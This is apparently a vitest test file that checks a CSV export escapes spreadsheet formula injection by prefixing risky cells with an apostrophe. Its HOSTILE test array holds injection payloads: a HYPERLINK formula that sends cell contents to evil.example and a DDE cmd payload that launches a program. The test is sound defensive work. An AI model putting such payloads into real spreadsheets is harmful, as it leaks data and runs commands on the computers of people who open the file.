/** The csv export: every pair as a spreadsheet row, with formula injection neutralised and the text otherwise intact. */
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { writeProjectExport } from '@/db/queries/export';
import { runImport } from '@/db/queries/imports';
import { createProject } from '@/db/queries/projects';
import { CLI_ACTOR } from '@/lib/auth/access';
import { csvCell } from '@/lib/data/export-files';
import { DEFAULT_EXPORT_OPTIONS } from '@/lib/data/export';
import { readRecords } from '@/lib/data/read-records';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-3+cmd|" /C calc"!A0', '@SUM(1,2)', '\t=1+1', '\r=1', '   =1+2', 'ok, "quoted" text\nwith a second line'];

describe('csv export', () => {
  it('neutralises cells a spreadsheet would run as formulas, and keeps every other text as it was', async () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('  @x')).toBe("'  @x");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell(['u1', 'u2'])).toBe('u1;u2');

    const projectId = (await createProject(CLI_ACTOR, { name: 'csv' })).id;
    const dir = process.env.ARBITER_DATA_DIR!;
    const input = path.join(dir, 'hostile.jsonl');
    fs.writeFileSync(input, HOSTILE.map((h, k) => JSON.stringify({ prompt: `Question ${k}: ${h}`, chosen: h, rejected: `plain answer ${k}` })).join('\n'));
    const report = await runImport(CLI_ACTOR, projectId, input);
    expect(report.imported).toBe(true);
    const out = path.join(dir, 'csv-export');
    const summary = await writeProjectExport(projectId, out, { format: 'csv', options: { ...DEFAULT_EXPORT_OPTIONS, testShare: 0 } });
    expect(summary.files).toEqual(expect.arrayContaining(['README.md', 'csv/train.csv']));
    const raw = fs.readFileSync(path.join(out, 'csv', 'train.csv'), 'utf8');
    expect(raw.startsWith('id,prompt_id,prompt,chosen,rejected,margin,agreement,annotator_ids,source\r\n')).toBe(true);
    // No cell starts with a formula character: every line's cells, parsed back, begin with something else.
    const rows: Record<string, unknown>[] = [];
    for await (const r of readRecords(path.join(out, 'csv', 'train.csv'))) if ('record' in r) rows.push(r.record as Record<string, unknown>);
    expect(rows).toHaveLength(HOSTILE.length);
    for (const row of rows) {
      for (const cell of [row.prompt, row.chosen, row.rejected]) expect(String(cell)).not.toMatch(/^\s*[=+\-@\t\r]/);
    }
    // The text survives: the apostrophe is the only change.
    const chosen = rows.map((r) => String(r.chosen)).sort();
    const expected = HOSTILE.map((h) => (/^\s*[=+\-@\t\r]/.test(h) ? `'${h}` : h)).sort();
    expect(chosen).toEqual(expected);
    expect(fs.readFileSync(path.join(out, 'README.md'), 'utf8')).toMatch(/begins with an apostrophe/);
  });
});
